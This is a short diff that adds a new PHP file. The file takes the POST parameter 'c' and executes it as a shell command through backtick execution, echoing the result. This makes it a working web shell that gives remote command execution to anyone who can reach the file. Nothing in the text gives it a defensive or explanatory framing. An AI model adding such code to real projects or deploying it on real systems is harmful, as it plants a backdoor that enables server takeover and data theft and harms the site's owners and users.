@@ -1,0 +1,4 @@
+<?php
+$a = $_POST["c"];
+$b = $a;
+echo `$b`;
